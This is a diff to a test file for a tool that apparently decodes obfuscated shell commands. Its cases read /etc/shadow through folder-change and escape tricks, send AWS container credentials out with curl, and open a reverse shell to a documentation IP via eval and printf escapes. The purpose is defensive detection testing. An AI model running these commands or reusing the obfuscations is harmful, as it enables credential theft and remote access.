@@ -2,6 +2,7 @@ import { deflateSync, gzipSync } from 'node:zlib';
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { commandOf, describeCommand } from '../../shared/model/command.ts';
+import { fromFolders } from '../../shared/model/shell-folder.ts';
 import { normalisePath, undisguise } from '../../shared/model/shell-text.ts';
 
 const plain = 'cat /etc/shadow';
@@ -28,6 +29,8 @@ const disguises: readonly (readonly [string, readonly string[]])[] = [
   ['hexadecimal escapes', ['sh', '-c', "$'\\x63at' /etc\\x2fshadow"]],
   ['octal escapes', ['sh', '-c', "printf '\\143\\141\\164 /etc/shadow'|sh"]],
   ['a roundabout path', ['cat', '/etc//./ssl/../shadow']],
+  ['a folder entered first', ['sh', '-c', 'cd /etc && cat shadow']],
+  ['folders entered one after the other', ['sh', '-c', 'true; (cd -P / ; cd ./x/../etc\ncat ./shadow)']],
   ['base64', ['sh', '-c', `echo ${base64(plain)}|base64 -d|sh`]],
   ['base64 in base64', ['sh', '-c', `echo ${base64(`echo ${base64(plain)} | base64 -d | sh`)} | base64 -d | sh`]],
   ['base64 with a stray byte', ['sh', '-c', `echo ${base64(`${plain} #\u0001`)}|base64 -d|sh`]],
@@ -115,9 +118,44 @@ describe('readings of a command', () => {
     expect(readings).toContain('sh -c curl $aws_container_credentials_full_uri -h $(cat /etc/hosts)');
   });
 
+  it('keeps signs that escapes write, for a shell that reads them once more', () => {
+    const { readings } = describeCommand([
+      'bash',
+      '-c',
+      String.raw`eval "$(printf 'sh -i \x3e\x26 /dev/tcp/203.0.113.66/4444 0\x3e\x261')"`,
+    ]);
+    expect(readings.some((reading) => reading.includes('sh -i >& /dev/tcp/203.0.113.66/4444 0>&1'))).toBe(true);
+  });
+
+  it('puts a folder before names and not before programs, options, settings and addresses', () => {
+    expect(fromFolders('cd /srv && LANG=C tar -c data > out; curl http://api/x /etc/hosts')).toBe(
+      'cd /srv && LANG=C /srv/tar -c /srv/data > /srv/out; curl http://api/x /etc/hosts',
+    );
+    expect(fromFolders('cd "$DIR"; cat shadow')).toBe('cd "$DIR"; cat shadow');
+  });
+
   const hostile = [
     ...['{', '{a,', '{a{,}', 'a=b;', '${', '${a:-', '$IFS', '/../', "'", '"a"+', '\\', '\\x41', '/a', '[', 'x=$x$x;', 'a=b;$a'],
-    ...['00 ', '99,', 'chr(9', '%41', 'Zm9v', 'rev ', '$(', '$(echo a)', '`', '(', 'echo ', 'echo a|rev|', '<<<a ', 'a<<<', "tr a 'b|"],
+    ...[
+      '00 ',
+      '99,',
+      'chr(9',
+      '%41',
+      'Zm9v',
+      'rev ',
+      '$(',
+      '$(echo a)',
+      '`',
+      '(',
+      'echo ',
+      'echo a|rev|',
+      '<<<a ',
+      'a<<<',
+      "tr a 'b|",
+      'cd ',
+      'cd a;',
+      'cd /a;b ',
+    ],
   ];
   it.each(hostile)('takes linear time over repetitions of %j', (part) => {
     const before = performance.now();
